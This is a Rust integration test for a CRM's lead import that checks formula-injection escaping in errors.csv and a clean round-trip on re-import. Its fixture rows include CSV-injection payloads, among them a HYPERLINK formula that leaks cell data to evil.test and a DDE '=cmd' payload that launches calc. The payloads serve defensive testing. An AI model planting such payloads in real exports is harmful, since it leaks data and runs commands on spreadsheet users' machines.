//! The formula rule of contract §6 end to end: cells a spreadsheet would run as a formula are served back in
//! errors.csv behind a `'`, and an import takes that `'` off again, so errors.csv uploads back to the values
//! the original file held — through a real API, a real crm-worker, real Postgres and Redis.

use crm_tests::{Session, TestApp};
use reqwest::StatusCode;
use serde_json::{Value, json};
use std::time::Duration;
use uuid::Uuid;

const HEADER: [&str; 7] = ["First Name", "Last Name", "Email", "Phone", "Company", "=Remarks", "Assigned To"];

/// Each row's cells with what errors.csv must show for them. The owner column (the last) is filled in later:
/// the owner does not exist yet, so every row fails with `unknown_user` and lands in errors.csv.
const ROWS: [[(&str, &str); 6]; 4] = [
    [
        (
            "=HYPERLINK(\"http://evil.test/?leak=\"&A1,\"Click\")",
            "'=HYPERLINK(\"http://evil.test/?leak=\"&A1,\"Click\")",
        ),
        ("Hyper", "Hyper"),
        ("hyper@example.com", "hyper@example.com"),
        ("+14155552671", "'+14155552671"),
        ("+cmd", "'+cmd"),
        ("-2+3", "'-2+3"),
    ],
    [
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTabbed", "'\tTabbed"),
        ("at@example.com", "at@example.com"),
        ("+1 415 555 2672", "'+1 415 555 2672"),
        ("-12.5", "-12.5"),
        ("=1+1", "'=1+1"),
    ],
    [
        ("Carriage", "Carriage"),
        ("\rReturn", "'\rReturn"),
        ("cr@example.com", "cr@example.com"),
        ("(415) 555-2673", "(415) 555-2673"),
        ("\r=cmd|' /C calc'!A0", "'\r=cmd|' /C calc'!A0"),
        ("-", "'-"),
    ],
    [
        ("Plain", "Plain"),
        ("O'Brien", "O'Brien"),
        ("plain@example.com", "plain@example.com"),
        ("4155552674", "4155552674"),
        ("42", "42"),
        ("'quoted' is not a guard", "'quoted' is not a guard"),
    ],
];

fn mapping() -> String {
    json!({"First Name": "first_name", "Last Name": "last_name", "Email": "email", "Phone": "phone",
           "Company": "company", "=Remarks": "notes", "Assigned To": "assigned_to"})
    .to_string()
}

/// The original file as Excel saves typed text: every cell a string (a formula typed as text stays text).
fn original_xlsx(owner: &str) -> Vec<u8> {
    let mut workbook = rust_xlsxwriter::Workbook::new();
    let sheet = workbook.add_worksheet();
    for (column, name) in HEADER.iter().enumerate() {
        sheet.write_string(0, column as u16, *name).expect("header cell");
    }
    for (row, cells) in ROWS.iter().enumerate() {
        let texts = cells.iter().map(|(typed, _)| *typed).chain([owner]);
        for (column, text) in texts.enumerate() {
            sheet.write_string(row as u32 + 1, column as u16, text).expect("cell");
        }
    }
    workbook.save_to_buffer().expect("xlsx")
}

/// The CSV reader reads every CR as a line feed (`imports::reader`), in any cell; cells are compared as it
/// reads them, so the comparison holds whether a CR survives a CSV or not, and still sees any stray `'`.
fn as_csv_reads(text: &str) -> String {
    text.replace("\r\n", "\n").replace('\r', "\n")
}

async fn import(app: &TestApp, admin: &Session, name: &str, bytes: Vec<u8>) -> (Uuid, Value) {
    let mapping = mapping();
    let reply = app.upload(admin, name, bytes, &[("entity", "leads"), ("mapping", &mapping)]).await;
    assert_eq!(reply.status, StatusCode::ACCEPTED, "{name}: {}", reply.body);
    let id = reply.id();
    (id, app.wait_import(admin, id, Duration::from_secs(60)).await)
}

/// Each error's row as it was stored, by its email cell, in the original header's columns.
async fn stored_rows(app: &TestApp, admin: &Session, id: Uuid) -> Vec<(String, Vec<String>)> {
    let mut rows: Vec<(String, Vec<String>)> = app
        .import_errors(admin, id)
        .await
        .iter()
        .map(|error| {
            let cells: Vec<String> =
                HEADER.iter().map(|name| error["row_data"][name].as_str().unwrap_or("<absent>").to_owned()).collect();
            (cells[2].clone(), cells)
        })
        .collect();
    rows.sort();
    rows
}

#[tokio::test]
async fn formula_cells_are_guarded_in_errors_csv_and_import_back_unchanged() {
    let app = TestApp::spawn().await;
    let _worker = app.start_worker(&["--queues", "imports"]).await;
    let admin = app.tenant().await;
    let owner = format!("owner-{}@tenant.test", Uuid::new_v4().simple());

    let (first, outcome) = import(&app, &admin, "leads.xlsx", original_xlsx(&owner)).await;
    assert_eq!(
        (&outcome["status"], &outcome["created"], &outcome["failed"]),
        (&json!("completed_with_errors"), &json!(0), &json!(4)),
        "{outcome}"
    );
    let originals: Vec<Vec<String>> = ROWS
        .iter()
        .map(|cells| cells.iter().map(|(typed, _)| (*typed).to_owned()).chain([owner.clone()]).collect())
        .collect();
    let mut expected_stored: Vec<(String, Vec<String>)> =
        originals.iter().map(|cells| (cells[2].clone(), cells.clone())).collect();
    expected_stored.sort();
    assert_eq!(stored_rows(&app, &admin, first).await, expected_stored, "the XLSX cells were stored as typed");

    // errors.csv: every formula cell and header name behind a `'`, numbers and plain text as they were.
    let text = app.errors_csv(&admin, first).await;
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let header: Vec<String> = reader.headers().expect("header").iter().map(str::to_owned).collect();
    assert_eq!(
        header,
        ["row_number", "error_type", "code", "field", "message"]
            .into_iter()
            .chain(["First Name", "Last Name", "Email", "Phone", "Company", "'=Remarks", "Assigned To"])
            .collect::<Vec<_>>()
    );
    let records: Vec<csv::StringRecord> = reader.records().map(|record| record.expect("record")).collect();
    assert_eq!(records.len(), ROWS.len());
    for (record, cells) in records.iter().zip(&ROWS) {
        assert_eq!(&record[2], "unknown_user", "{record:?}");
        let served: Vec<&str> = record.iter().skip(5).collect();
        let expected: Vec<&str> = cells.iter().map(|(_, served)| *served).chain([owner.as_str()]).collect();
        assert_eq!(served, expected, "row {}", &record[0]);
    }

    // errors.csv uploaded back, the owner still unknown: every row fails again with its cells as they were.
    let (second, outcome) = import(&app, &admin, "errors.csv", text.clone().into_bytes()).await;
    assert_eq!((&outcome["created"], &outcome["failed"]), (&json!(0), &json!(4)), "{outcome}");
    let round_tripped = stored_rows(&app, &admin, second).await;
    let compared = |rows: &[(String, Vec<String>)]| -> Vec<Vec<String>> {
        rows.iter().map(|(_, cells)| cells.iter().map(|cell| as_csv_reads(cell)).collect()).collect()
    };
    assert_eq!(compared(&round_tripped), compared(&expected_stored), "errors.csv imported back to the original cells");
    assert_eq!(app.count_rows("leads", Some(admin.tenant_id)).await, 0);

    // With the owner created, the same errors.csv imports, each row once, with the original values.
    let created = app
        .post(
            "/api/v1/users",
            &admin,
            json!({"email": owner, "name": "The Owner", "password": crm_tests::PASSWORD, "role": "sales",
                   "team_ids": []}),
        )
        .await;
    assert_eq!(created.status, StatusCode::CREATED, "{}", created.body);
    let (_, outcome) = import(&app, &admin, "errors.csv", text.into_bytes()).await;
    assert_eq!(
        (&outcome["status"], &outcome["created"], &outcome["failed"]),
        (&json!("completed"), &json!(4), &json!(0)),
        "{outcome}"
    );
    let leads: Vec<Value> = sqlx::query_scalar(
        "SELECT json_build_array(l.email, l.first_name, l.last_name, l.company, l.notes, l.phone) FROM leads l \
         JOIN users u ON u.id = l.assigned_to_user_id AND u.tenant_id = l.tenant_id \
         WHERE l.tenant_id = $1 AND u.email = $2 ORDER BY l.email",
    )
    .bind(admin.tenant_id)
    .bind(&owner)
    .fetch_all(&app.db)
    .await
    .expect("leads");
    // Text fields are trimmed, as in every import; phones are stored as E.164.
    assert_eq!(
        leads,
        [
            json!(["at@example.com", "@SUM(A1)", "Tabbed", "-12.5", "=1+1", "+14155552672"]),
            json!(["cr@example.com", "Carriage", "Return", "=cmd|' /C calc'!A0", "-", "+14155552673"]),
            json!([
                "hyper@example.com",
                "=HYPERLINK(\"http://evil.test/?leak=\"&A1,\"Click\")",
                "Hyper",
                "+cmd",
                "-2+3",
                "+14155552671"
            ]),
            json!(["plain@example.com", "Plain", "O'Brien", "42", "'quoted' is not a guard", "+14155552674"]),
        ]
    );
    assert_eq!(app.count_rows("leads", Some(admin.tenant_id)).await, 4, "each row was written once");
    let errors_per_row: Vec<(i64, i64)> = sqlx::query_as(
        "SELECT count(*), count(DISTINCT row_number) FROM import_errors WHERE tenant_id = $1 AND import_id = ANY($2) \
         GROUP BY import_id ORDER BY import_id",
    )
    .bind(admin.tenant_id)
    .bind(vec![first, second])
    .fetch_all(&app.db)
    .await
    .expect("errors");
    assert_eq!(errors_per_row, [(4, 4), (4, 4)], "one error a failed row, in both imports");
}
